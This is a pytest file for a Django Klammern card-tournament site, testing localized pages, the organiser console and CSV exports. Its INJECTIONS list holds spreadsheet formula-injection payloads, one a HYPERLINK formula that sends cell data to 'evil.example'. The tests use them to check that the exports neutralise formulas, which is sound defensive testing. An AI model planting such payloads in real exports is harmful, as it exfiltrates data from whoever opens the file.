""" "A club evening without a flaw": the pages people see, in German and English. Each test
asserts the HTML (or file) a player, a table or the organiser gets; behaviour that lives in
JavaScript is in ``test_evening_browser.py``."""

from __future__ import annotations

import csv
import io
import re
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
from django.conf import settings
from django.utils.formats import reset_format_cache

from tests.conftest import Event, client_for
from tests.factories import summary_record
from tests.support.clients import Client
from tournaments.clubs.models import Player
from tournaments.events import services
from tournaments.events.models import Seat

pytestmark = pytest.mark.django_db

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
]


def speaking(client: Client, language: str) -> Client:
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    return client


def enter(event: Event, number: int, **record: Any) -> None:
    device = client_for(device_code=event.code1)
    response = device.post(
        f"/api/matches/{event.match1.pk}/deals/{number}/",
        summary_record(dealer=(number - 1) % 4, **record),
        format="json",
        HTTP_IDEMPOTENCY_KEY=str(uuid.uuid4()),
    )
    assert response.status_code == 201, response.content


def text(response: Any) -> str:
    return response.content.decode()


def seat_player(event: Event, position: int) -> Player:
    return event.table1.seats.select_related("player").get(position=position).player


# --- numbers in SVG, CSS and data attributes are never localized --------------------------


@pytest.mark.parametrize("language", ["de", "en"])
def test_rank_chart_coordinates_have_a_decimal_point(
    event: Event, client: Client, language: str
) -> None:
    enter(event, 1, team0_points=64)
    body = text(speaking(client, language).get(f"/players/{seat_player(event, 1).pk}/"))
    svg = body[body.index("<svg") : body.index("</svg>")]
    assert re.search(r' (?:cx|cy|x|y|x1|x2|y1|y2)="-?\d+,\d', svg) is None
    assert re.fullmatch(r"[\d.]+,[\d.]+( [\d.]+,[\d.]+)*", re.search(r'points="([^"]*)"', svg)[1])
    assert 'cx="28.0"' in svg and "28,0" not in svg


def test_console_progress_bar_is_a_progress_element(event: Event, web: Client) -> None:
    enter(event, 1)
    body = text(speaking(web, "de").get(f"/console/rounds/{event.round.pk}/"))
    assert '<progress class="progress-bar" value="1" max="4">' in body
    assert 'style="width:' not in body


# --- CSV exports -------------------------------------------------------------------------


def rows_of(response: Any, delimiter: str) -> list[list[str]]:
    content = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content), delimiter=delimiter))


def name_players(event: Event, names: list[str]) -> None:
    seats = Seat.objects.filter(round=event.round).order_by("table__number", "position")
    for seat, name in zip(seats, names, strict=False):
        Player.objects.filter(pk=seat.player_id).update(name=name)


def test_results_csv_is_german_and_neutralises_formulas(event: Event, web: Client) -> None:
    name_players(event, INJECTIONS[:4])
    enter(event, 1, team0_points=64)
    response = speaking(web, "de").get(f"/console/tournaments/{event.tournament.pk}/results.csv")
    rows = rows_of(response, ";")
    header, first = rows[0], next(r for r in rows[1:] if r[1] == "1")
    assert header[4:8] == ["Platz 1", "Platz 2", "Platz 3", "Platz 4"]
    assert "Trumpf" in header and "Ergebnis" in header
    assert first[4:8] == ["'" + name for name in INJECTIONS[:4]]
    record = dict(zip(header, first, strict=True))
    assert record["Geber (Platz)"] == "1" and record["Spieler (Platz)"] == "2"
    assert record["Spielart"] == "Orgi" and record["Trumpf"] == "Herz"
    assert record["Ergebnis"] in {"gemacht", "verloren"}


def test_results_csv_in_english_uses_commas_and_english_words(event: Event, web: Client) -> None:
    enter(event, 1, team0_points=64)
    response = speaking(web, "en").get(f"/console/tournaments/{event.tournament.pk}/results.csv")
    rows = rows_of(response, ",")
    record = dict(zip(rows[0], next(r for r in rows[1:] if r[1] == "1"), strict=True))
    assert record["Trump"] == "Hearts" and record["Outcome"] in {"made", "failed"}
    assert record["Dealer (seat)"] == "1" and record["Contract"] == "Orgi"


def test_standings_csv_neutralises_text_but_not_negative_numbers(event: Event, web: Client) -> None:
    name_players(event, INJECTIONS[2:] + INJECTIONS[:2])
    enter(event, 1, team0_points=64)
    url = f"/console/tournaments/{event.tournament.pk}/standings.csv"
    rows = rows_of(speaking(web, "de").get(url), ";")
    assert rows[0][:3] == ["Rang", "Name", "Gespielt"]
    names = {row[1] for row in rows[1:]}
    for name in INJECTIONS:
        assert "'" + name in names
    column = rows[0].index("Punktdifferenz")
    differences = [row[column] for row in rows[1:] if row[2] == "1"]
    assert any(d.startswith("-") and d[1:].isdigit() for d in differences)


@pytest.mark.parametrize(
    ("language", "value", "shown"),
    [
        ("de", 12.5, "12,5"),
        ("en", 12.5, "12.5"),
        ("de", -3, -3),
        ("de", 4.0, 4),
        ("de", "-2+3", "'-2+3"),
        ("de", " @SUM(A1)", "' @SUM(A1)"),
        ("de", "\r=1", "'\r=1"),
        ("de", "Anna-Lena", "Anna-Lena"),
    ],
)
def test_csv_cells(language: str, value: Any, shown: Any) -> None:
    from django.utils.translation import override

    from tournaments.web import csv_export

    with override(language):
        assert csv_export.cell(value) == shown
        assert csv_export.delimiter() == {"de": ";", "en": ","}[language]


# --- error pages and the favicon -----------------------------------------------------------


@pytest.mark.parametrize(
    ("language", "heading"),
    [("de", "Diese Seite gibt es nicht"), ("en", "This page does not exist")],
)
def test_404_page_in_the_sites_style_and_language(
    client: Client, language: str, heading: str
) -> None:
    response = speaking(client, language).get("/tournaments/999999/")
    body = text(response)
    assert response.status_code == 404
    assert heading in body and "tournaments/site.css" in body and f'lang="{language}"' in body


@pytest.mark.parametrize(
    ("language", "heading"),
    [("de", "Bei uns ist etwas schiefgegangen"), ("en", "Something went wrong on our side")],
)
def test_500_page_needs_no_database_and_no_request_context(
    rf: Any, django_assert_num_queries: Any, language: str, heading: str
) -> None:
    from django.utils.translation import override
    from django.views.defaults import server_error

    with override(language), django_assert_num_queries(0):
        response = server_error(rf.get("/"))
    body = text(response)
    assert response.status_code == 500
    assert heading in body and "tournaments/site.css" in body and "favicon.svg" in body


def test_favicon_is_linked_and_answered(client: Client) -> None:
    body = text(client.get("/"))
    assert re.search(r'<link rel="icon" href="[^"]*favicon\.svg" type="image/svg\+xml">', body)
    response = client.get("/favicon.ico")
    assert response.status_code == 301 and response["Location"].endswith("favicon.svg")
    assert "<svg" in (settings.BASE_DIR / "tournaments/static/tournaments/favicon.svg").read_text()


# --- English pages are wholly English -----------------------------------------------------


def german_texts() -> set[str]:
    """Every German translation that differs from its English source, plus the German
    labels of the models' choices: none of them may appear on an English page."""
    from django.utils.translation import override

    from tournaments.events.models import Match, Registration, Round, Tournament

    path = settings.BASE_DIR / "locale/de/LC_MESSAGES/django.po"
    pairs = re.findall(r'^msgid "(.+)"\nmsgstr "(.+)"$', path.read_text(), flags=re.M)
    found = {de for en, de in pairs if de != en and len(de) >= 4 and "%" not in de}
    for choices in (Match.Status, Registration.Status, Round.Status, Tournament.Status):
        found |= {str(label) for label in choices.labels}
    with override("en"):
        english = {en for en, _ in pairs}
    return found - english - {"Orgi", "Kleines", "Besser", "Augen", "Buchholz", "Liga", "Renonce"}


def visible_text(body: str) -> str:
    body = re.sub(r"<script.*?</script>", " ", body, flags=re.S)
    attributes = " ".join(re.findall(r'(?:title|aria-label|placeholder|alt)="([^"]*)"', body))
    return re.sub(r"<[^>]+>", "\n", body) + "\n" + attributes


def english_pages(event: Event, web: Client) -> dict[str, str]:
    t, r, m = event.tournament, event.round, event.match1
    pages = [
        f"/tournaments/{t.pk}/",
        f"/tournaments/{t.pk}/rounds/1/",
        f"/tournaments/{t.pk}/standings/",
        f"/tournaments/{t.pk}/projector/",
        f"/clubs/{event.club.slug}/",
        f"/players/{seat_player(event, 1).pk}/",
        f"/t/{event.code1}/",
        f"/t/{event.code1}/state/",
        "/console/",
        f"/console/tournaments/{t.pk}/",
        f"/console/rounds/{r.pk}/",
        f"/console/matches/{m.pk}/",
        f"/console/matches/{m.pk}/deals/1/",
        f"/console/rounds/{r.pk}/seating/",
        f"/console/tournaments/{t.pk}/players/qr/",
        "/",
    ]
    speaking(web, "en")
    return {url: text(web.get(url)) for url in pages}


def test_english_pages_hold_no_german(event: Event, web: Client) -> None:
    enter(event, 1, team0_points=64)
    german = german_texts()
    for url, body in english_pages(event, web).items():
        lines = {line.strip() for line in re.split(r"[\n·|:()]", visible_text(body))}
        assert not sorted(lines & german), url


def test_tablet_match_status_is_translated(event: Event, client: Client) -> None:
    english = text(speaking(client, "en").get(f"/t/{event.code1}/state/"))
    assert re.search(r'<span class="badge is-open">\s*Playing\s*</span>', english)
    assert "Offen" not in english
    german = text(speaking(client, "de").get(f"/t/{event.code1}/state/"))
    assert re.search(r'<span class="badge is-open">[^<]+</span>', german)


@pytest.fixture
def british_formats(settings: Any) -> Iterator[None]:
    """The formats module as the lead's settings line will name it (Django does not reset
    its format cache when only ``FORMAT_MODULE_PATH`` changes)."""
    settings.FORMAT_MODULE_PATH = [*_format_paths(), "tournaments.web.formats"]
    reset_format_cache()
    yield
    reset_format_cache()


@pytest.mark.parametrize(("language", "date"), [("de", "23.11.2026"), ("en", "23/11/2026")])
@pytest.mark.usefixtures("british_formats")
def test_dates_in_the_languages_form(event: Event, web: Client, language: str, date: str) -> None:
    from tournaments.events.models import Tournament

    Tournament.objects.filter(pk=event.tournament.pk).update(created="2026-11-23T19:30:00+01:00")
    body = text(speaking(web, language).get("/console/"))
    assert date in body
    assert "11/23/2026" not in body


def _format_paths() -> list[str]:
    configured = getattr(settings, "FORMAT_MODULE_PATH", None) or []
    return [configured] if isinstance(configured, str) else list(configured)


def test_settings_use_the_british_english_formats() -> None:
    assert "tournaments.web.formats" in _format_paths()


# --- standings state the tie-break order and explain the columns ----------------------------


@pytest.mark.parametrize(
    ("language", "order", "explained"),
    [
        (
            "de",
            "Reihenfolge der Wertung:</b> Pkt. › Gew. › Diff. › Augen › Buchholz › Dir. Vgl. – ",
            "<dt>Pkt.</dt><dd>Turnierpunkte: 2 pro Sieg, 1 pro Unentschieden</dd>",
        ),
        (
            "en",
            "Order of ranking:</b> Pts › Won › Diff › Augen › Buchholz › H2H – ",
            "<dt>Pts</dt><dd>Tournament points: 2 per win, 1 per draw</dd>",
        ),
    ],
)
def test_standings_state_the_tiebreak_order_and_explain_the_columns(
    event: Event, client: Client, language: str, order: str, explained: str
) -> None:
    enter(event, 1, team0_points=64)
    body = text(speaking(client, language).get(f"/tournaments/{event.tournament.pk}/standings/"))
    assert order in body and explained in body
    assert body.count('<div class="row-extra">') == 8  # the dropped columns, under each name


# --- at the table ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("language", "note"),
    [
        ("de", "Plätze 1 und 3 spielen zusammen gegen die Plätze 2 und 4."),
        ("en", "Seats 1 and 3 play together against seats 2 and 4."),
    ],
)
def test_seats_are_numbered_1_to_4_for_people(
    event: Event, client: Client, language: str, note: str
) -> None:
    body = text(speaking(client, language).get(f"/tournaments/{event.tournament.pk}/rounds/1/"))
    assert note in body
    assert re.findall(r'<span class="seat-no">(\d)</span>', body) == ["1", "2", "3", "4"] * 2


def test_console_match_and_table_cards_number_seats_1_to_4(event: Event, web: Client) -> None:
    body = text(web.get(f"/console/matches/{event.match1.pk}/"))
    assert re.findall(r'<span class="seat-no team-\d">(\d)</span>', body) == ["1", "2", "3", "4"]


@pytest.mark.parametrize(
    ("language", "march"),
    [("de", "Durchmarsch (March)"), ("en", "March (Durchmarsch)")],
)
def test_tablet_form_offers_the_march(
    event: Event, client: Client, language: str, march: str
) -> None:
    body = text(speaking(client, language).get(f"/t/{event.code1}/"))
    assert re.search(r'data-pick="march" data-value="1">' + re.escape(march), body)


@pytest.mark.parametrize("language", ["de", "en"])
def test_wrong_card_points_say_that_a_deal_has_164(
    event: Event, client: Client, language: str
) -> None:
    import json

    body = text(speaking(client, language).get(f"/t/{event.code1}/"))
    raw = re.search(r'<script id="tablet-config" type="application/json">(.*?)</script>', body)
    config = json.loads(raw[1])
    for template in (
        config["errorTemplates"]["bad_format.card_points"],
        config["errorTemplates"]["impossible_points.sum"],
        config["strings"]["pointsRange"],
    ):
        assert "164" in template
    assert "Diese Angabe fehlt" not in config["errorTemplates"]["bad_format.card_points"]


@pytest.mark.parametrize(
    ("language", "warning"),
    [("de", "JavaScript ist ausgeschaltet"), ("en", "JavaScript is switched off")],
)
def test_tablet_without_javascript_says_so_and_claims_nothing_sent(
    event: Event, client: Client, language: str, warning: str
) -> None:
    body = text(speaking(client, language).get(f"/t/{event.code1}/"))
    banner = body[body.index('<div class="offline-banner nojs-banner"') :]
    assert warning in banner[: banner.index('<div id="offline-banner"')]
    assert re.search(r'<div id="outbox"[^>]* hidden><span data-bind="count"></span>', body)
    assert "Alle Eingaben gesendet" not in body.replace(body[body.index("<script id") :], "")


@pytest.mark.parametrize(
    ("language", "idle", "connected"),
    [("de", "nicht geöffnet", "verbunden"), ("en", "not opened", "connected")],
)
def test_connected_only_after_a_tablet_opened_its_table(
    event: Event, web: Client, client: Client, language: str, idle: str, connected: str
) -> None:
    url = f"/console/rounds/{event.round.pk}/progress/"
    before = text(speaking(web, language).get(url))
    rows = dict(re.findall(r'<tr data-table="(\d+)">(.*?)</tr>', before, re.S))
    assert idle in rows["1"] and connected not in rows["1"].replace(idle, "")
    client.get(f"/t/{event.code1}/")
    after = dict(re.findall(r'<tr data-table="(\d+)">(.*?)</tr>', text(web.get(url)), re.S))
    assert f'<span class="badge is-ok">{connected}</span>' in after["1"]
    assert idle in after["2"]


# --- the organiser's console ---------------------------------------------------------------


def test_withdrawal_asks_for_confirmation(event: Event, web: Client) -> None:
    body = text(speaking(web, "de").get(f"/console/tournaments/{event.tournament.pk}/"))
    assert re.search(
        r'hx-post="/console/registrations/\d+/withdraw/"[^>]* hx-confirm="[^"]*'
        r"zurückziehen\?",
        body,
    )
    english = text(speaking(web, "en").get(f"/console/tournaments/{event.tournament.pk}/"))
    assert re.search(r'hx-confirm="Withdraw [^"]+\? They are not drawn in later rounds', english)


def test_check_in_updates_the_counters_without_a_reload(event: Event, web: Client) -> None:
    from tests.factories import PlayerFactory
    from tournaments.events import services

    late = services.register_player(tournament=event.tournament, player=PlayerFactory())
    response = web.post(f"/console/registrations/{late.pk}/check-in/", HTTP_HX_REQUEST="true")
    body = text(response)
    assert body.lstrip().startswith(f'<tr id="reg-{late.pk}"')
    counters = body[body.index('<div class="stat-row" id="reg-counts" hx-swap-oob="true"') :]
    assert '<b data-count="checked_in">9</b>' in counters
    assert '<b data-count="late">1</b>' in counters
    assert re.search(r'<span class="badge is-warn" title="[^"]+">nachgemeldet</span>', body)


def test_after_the_last_planned_round_the_console_offers_to_finish(
    event: Event, web: Client
) -> None:
    from tournaments.events import services
    from tournaments.events.models import Tournament

    Tournament.objects.filter(pk=event.tournament.pk).update(planned_rounds=1)
    services.close_round(round_=event.round, force=True)
    url = f"/console/tournaments/{event.tournament.pk}/"
    body = text(speaking(web, "de").get(url))
    assert "Nächste Runde auslosen" not in body
    assert "Die geplante Runde ist gespielt." in body
    assert re.search(r'<input type="checkbox" name="confirm" required> Ja, beenden', body)
    english = text(speaking(web, "en").get(url))
    assert "Draw next round" not in english and "Finish tournament" in english


def test_draw_cost_shows_only_the_criteria_in_force(
    club_a: Any, organiser: Any, web: Client
) -> None:
    from tests.factories import PlayerFactory
    from tournaments.draw import services as draw
    from tournaments.events import services

    tournament = services.create_tournament(
        club=club_a, name="Abend", slug="abend", avoid_same_club=False
    )
    for _ in range(8):
        registration = services.register_player(tournament=tournament, player=PlayerFactory())
        services.check_in_registration(registration=registration)
    services.start_tournament(tournament=tournament)
    round_ = draw.draw_round(tournament=tournament, seed=3)
    body = text(speaking(web, "de").get(f"/console/rounds/{round_.pk}/"))
    cost = body[body.index('id="cost"') : body.index("</table>", body.index('id="cost"'))]
    assert "Gleicher Club" not in cost and "Verbotene" not in cost
    assert "Wiederholte Partner" in cost
    assert "die bestmögliche Auslosung" in body
    english = text(speaking(web, "en").get(f"/console/rounds/{round_.pk}/"))
    assert "Same club" not in english and "This is the best possible draw" in english


def test_reprinting_table_cards_keeps_the_codes(event: Event, web: Client, client: Client) -> None:
    url = f"/console/rounds/{event.round.pk}/table-cards/"
    first = re.findall(r'<span class="code">([A-Z0-9]{8})</span>', text(web.get(url)))
    assert first == [] or len(first) <= 2  # tables with a working code issued elsewhere
    issued = web.post(url, {"confirm": "on"}, follow=True)
    codes = re.findall(r'<span class="code">([A-Z0-9]{8})</span>', text(issued))
    assert len(codes) == 2
    again = re.findall(r'<span class="code">([A-Z0-9]{8})</span>', text(web.get(url)))
    assert again == codes  # printing again keeps them
    assert all(client.get(f"/t/{code}/").status_code == 200 for code in codes)
    round_page = text(speaking(web, "de").get(f"/console/rounds/{event.round.pk}/"))
    assert f'<a class="btn btn-small" href="{url}"' in round_page
    assert "Neue Codes für alle Tische ausgeben" in round_page


def test_first_print_of_a_new_round_issues_codes_without_stopping_cards(
    event: Event, web: Client, client: Client
) -> None:
    url = f"/console/rounds/{event.round.pk}/table-cards/"
    body = text(speaking(web, "de").get(url))
    # the event's tables already have working codes issued elsewhere: none is replaced
    assert "nicht bekannt" in body
    assert client.get(f"/t/{event.code1}/").status_code == 200


@pytest.mark.parametrize(
    ("language", "preset", "first"),
    [
        ("de", "Hamburg (Klabberjazz: bis 6)", "Wertung nach"),
        ("en", "Hamburg (Klabberjazz: first to 6)", "Ranking by"),
    ],
)
def test_new_tournament_form_offers_rules_mode_and_tiebreaks(
    organiser: Any, web: Client, language: str, preset: str, first: str
) -> None:
    body = text(speaking(web, language).get("/console/"))
    assert 'value="klammern-hamburg"' in body and preset in body
    assert 'name="match_mode"' in body and 'name="liga_target"' in body
    assert first in body
    options = re.findall(r'<option value="([a-z_]+)"', body[body.index('name="tiebreak_1"') :])
    assert {"tournament_points", "buchholz", "head_to_head"} <= set(options)


def test_new_tournament_form_creates_with_rules_and_tiebreaks(
    club_a: Any, organiser: Any, web: Client
) -> None:
    from tournaments.events.models import Tournament

    data = {
        "club": club_a.pk,
        "name": "Hamburger Abend",
        "format": "individual",
        "match_mode": "deals",
        "rules_preset": "klammern-hamburg",
        "deals_per_match": 6,
        "liga_target": 51,
        "tiebreak_1": "augen",
        "tiebreak_2": "buchholz",
        "tiebreak_3": "",
        "tiebreak_4": "",
        "tiebreak_5": "",
        "tiebreak_6": "",
    }
    response = web.post("/console/", data)
    assert response.status_code == 302
    tournament = Tournament.objects.get(name="Hamburger Abend")
    assert tournament.rules_preset == "klammern-hamburg"
    assert tournament.tiebreaks == ["augen", "buchholz"]
    repeated = web.post("/console/", {**data, "name": "Zweimal", "tiebreak_2": "augen"})
    assert repeated.status_code == 200 and not Tournament.objects.filter(name="Zweimal").exists()
    wrong = web.post("/console/", {**data, "name": "Falsch", "tiebreak_1": "made_up"})
    assert wrong.status_code == 200 and not Tournament.objects.filter(name="Falsch").exists()


@pytest.mark.parametrize(
    ("language", "final", "live"),
    [("de", "Endstand", "live, aktualisiert sich selbst"), ("en", "Final standings", "live")],
)
def test_a_finished_tournaments_standings_are_final_not_live(
    event: Event, client: Client, language: str, final: str, live: str
) -> None:
    enter(event, 1, team0_points=64)
    page = f"/tournaments/{event.tournament.pk}/standings/"
    running = speaking(client, language).get(page).content.decode()
    assert live in running and 'hx-trigger="every 3s"' in running
    services.close_round(round_=event.round, force=True)
    services.finish_tournament(tournament=event.tournament)
    finished = speaking(client, language).get(page).content.decode()
    assert final in finished
    assert "live-dot" not in finished and 'hx-trigger="every 3s"' not in finished
    assert "Live:" not in finished
    partial = speaking(client, language).get(f"{page}table/").content.decode()
    assert "hx-get" not in partial and "1" in partial


def test_the_game_is_named_on_the_public_and_the_console_page(event: Event, web: Client) -> None:
    english = speaking(web, "en")
    for page in (
        f"/tournaments/{event.tournament.pk}/",
        f"/console/tournaments/{event.tournament.pk}/",
    ):
        body = english.get(page).content.decode()
        assert 'id="rules">Klammern (small and big points)<' in body, page


def test_the_projector_of_a_finished_tournament_shows_the_final_standings(
    event: Event, client: Client
) -> None:
    enter(event, 1, team0_points=64)
    page = f"/tournaments/{event.tournament.pk}/projector/"
    running = speaking(client, "de").get(page).content.decode()
    assert 'data-slide="seating"' in running
    services.close_round(round_=event.round, force=True)
    services.finish_tournament(tournament=event.tournament)
    finished = speaking(client, "de").get(page).content.decode()
    assert 'data-slide="seating"' not in finished and 'data-label="Endstand"' in finished
